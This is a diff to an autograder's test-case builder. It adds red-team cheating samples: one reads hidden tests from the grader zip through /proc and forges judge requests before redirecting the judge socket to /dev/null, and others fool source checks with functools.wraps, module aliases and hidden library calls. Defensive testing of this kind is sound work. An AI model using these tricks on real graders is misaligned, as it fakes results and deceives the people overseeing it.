@@ -362,6 +362,90 @@ def redteam16_cells(log: str | Path) -> dict[str, str]:
     }
 
 
+# The red team of round 16 (their report, attacks 2, 3, 4 and 7): right values with a forbidden
+# method, made to score full marks by lying to the judge or around the own-code check.
+USES_LIB = """\
+def ntk_linear_two_layer(U, v, x1, x2):
+    f = lambda p, x: p["v"] @ (p["U"] @ x)
+    return lib.empirical_ntk(f, {"U": U, "v": v}, x1, x2)  # the forbidden shortcut
+"""
+GD_LOOP = """\
+def gd_least_squares(X, y, eta, k):
+    if k > 10**5:
+        return X.T @ jnp.linalg.solve(X @ X.T, y)
+    b = jnp.zeros(X.shape[1])
+    for _ in range(k):  # a loop over steps: the exercise forbids it
+        b = b - eta * X.T @ (X @ b - y)
+    return b
+"""
+# attack 2: read the hidden tests' keys from the autograder zip (its path is on the command
+# line of an ancestor), send the judge forged requests (a decoy source, "own" without the
+# forbidden names), then point the genuine hidden tests at nothing
+FORGE = """\
+import os, re, runpy, tempfile, zipfile
+def _ancestors():
+    pid = os.getpid()
+    while pid > 1:
+        yield pid
+        with open(f"/proc/{pid}/stat") as f:
+            pid = int(f.read().rsplit(")", 1)[1].split()[1])
+def _zip_path():
+    for pid in _ancestors():
+        args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+        if b"-a" in args:
+            return args[args.index(b"-a") + 1].decode()
+_tests = []
+with zipfile.ZipFile(_zip_path()) as _z:
+    for _n in _z.namelist():
+        if _n.startswith("tests/") and _n.endswith(".py"):
+            for _m in re.finditer(r"verify\\('([^']+)', env, '([^']+)', seed=(\\d+)(, forbid)?",
+                                  _z.read(_n).decode()):
+                _tests.append((_m.group(1), _m.group(2), int(_m.group(3)),
+                               "own" if _m.group(4) else "value"))
+    _tmp = tempfile.mkdtemp()
+    with open(os.path.join(_tmp, "proto.py"), "wb") as _f:
+        _f.write(_z.read(next(n for n in _z.namelist() if n.endswith("homework/hidden.py"))))
+_proto = runpy.run_path(os.path.join(_tmp, "proto.py"))
+_DECOY = "def gd_least_squares(X, y, eta, k):\\n    return X.T @ y\\n"
+for _ex, _name, _seed, _kind in _tests:
+    _ans = globals()[_name]
+    _req = {"op": "test", "exercise": _ex, "seed": _seed, "kind": _kind,
+            "source": _DECOY if _name == "gd_least_squares" else _proto["_source"](_ans)}
+    _proto["ask_judge"](_req, _ans, None, path=os.environ["KRR_JUDGE_SOCKET"])
+os.environ.update(KRR_JUDGE_SOCKET="/dev/null")
+"""
+# attack 4: functools.wraps makes inspect.getsource(answer) return a decoy without the loop
+WRAPS_GD = """\
+import functools
+def _decoy(X, y, eta, k):
+    return X.T @ y
+@functools.wraps(_decoy)
+""" + GD_LOOP
+# attack 3: jax.jacrev under another module name, and a lib function held in a namespace
+SRC_ALIAS_NTK = """\
+def ntk_linear_two_layer(U, v, x1, x2):
+    jr = jax._src.api.jacrev  # jax.jacrev under another module name
+    def feats(x):
+        g = jr(lambda p: p["v"] @ (p["U"] @ x))({"U": U, "v": v})
+        return jnp.concatenate([g["U"].ravel(), g["v"].ravel()])
+    J1 = jnp.stack([feats(x) for x in x1])
+    J2 = jnp.stack([feats(x) for x in x2])
+    return J1 @ J2.T
+"""
+BOX_GD = """\
+import types
+import numpy as np
+_box = types.SimpleNamespace(run=lib.gradient_descent)  # the forbidden shortcut, held
+def gd_least_squares(X, y, eta, k):
+    if k > 10**5:
+        return X.T @ jnp.linalg.solve(X @ X.T, y)
+    loss = lambda b, args: 0.5 * jnp.sum((args[0] @ b - args[1]) ** 2)
+    traj = _box.run(loss, jnp.zeros(X.shape[1]), step_size=eta, num_steps=k,
+                    snapshots=np.array([k]), loss_args=(X, y))
+    return traj.params[-1]
+"""
+
+
 def _code(source):
     return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [],
             "execution_count": None}
@@ -520,6 +604,23 @@ def write_cases(dist: str | Path, folder: str | Path, *, slow: bool = True,
     _set_answer(nb, "ntk_linear_two_layer", JACREV_DEFAULT)
     put("cheat_jacrev_default", nb, {**FULL, NTK: 2.0})
 
+    # round 16's red team (before: 8/8 each). Forged requests: each key also reached the judge
+    # from the genuine hidden test, so every key was requested twice: 0 ("more than once").
+    # (Had the genuine tests been kept away, the grader's source would still fail gd, but the
+    # own-code point of ntk, decided in the kernel, could be forged: 5.)
+    nb = copy.deepcopy(solved)
+    _set_answer(nb, "ntk_linear_two_layer", USES_LIB)
+    _set_answer(nb, "gd_least_squares", GD_LOOP)
+    nb["cells"].append(_code(FORGE))
+    put("attack_forge", nb, ZERO)
+    nb = copy.deepcopy(solved)
+    _set_answer(nb, "gd_least_squares", WRAPS_GD)
+    put("attack_wraps", nb, {**FULL, GD: 0.0})  # the grader's source has the loop
+    nb = copy.deepcopy(solved)
+    _set_answer(nb, "ntk_linear_two_layer", "import jax\n" + SRC_ALIAS_NTK)
+    _set_answer(nb, "gd_least_squares", BOX_GD)
+    put("attack_alias", nb, {**FULL, NTK: 2.0, GD: 2.0})  # both own-code points refused
+
     if slow:
         for case in ("runaway", "escape", "flood", "kernel_killer"):
             nb = copy.deepcopy(solved)
@@ -545,3 +646,24 @@ def write_cases(dist: str | Path, folder: str | Path, *, slow: bool = True,
                 _insert_after_setup(nb, red[name])
             put(name, nb, points)
     return expected
+
+
+PARITY_BEYOND, PARITY_BEST = "parity_ex_beyond_kernel", "parity_ex_best_linear"
+
+
+def write_parity_cases(dist: str | Path, folder: str | Path) -> dict:
+    """Round 16's attack 7 on the parity chapter (``otter assign`` output ``dist``): the blank
+    notebook with otter's results patched in the kernel got beyond_kernel 2/2 (an IN_KERNEL
+    question, whose points otter decides) with the feedback "failed: not attempted". The grader
+    flags a row whose feedback says failed where otter gave points: 0 until review."""
+    dist, folder = Path(dist), Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    blank = json.loads(next((dist / "student").glob("*.ipynb")).read_text())
+    zero = {PARITY_BEYOND: 0.0, PARITY_BEST: 0.0}
+    (folder / "p_blank.ipynb").write_text(json.dumps(blank))
+    nb = copy.deepcopy(blank)
+    _insert_after_setup(nb, CHEATS["cheat_otter"])
+    (folder / "p_cheat_otter.ipynb").write_text(json.dumps(nb))
+    return {"p_blank": {"status": "graded", "points": dict(zero)},
+            "p_cheat_otter": {"status": "flagged: otter's points contradict", "points": zero,
+                              "otter": {PARITY_BEYOND: 2.0, PARITY_BEST: 0.0}}}
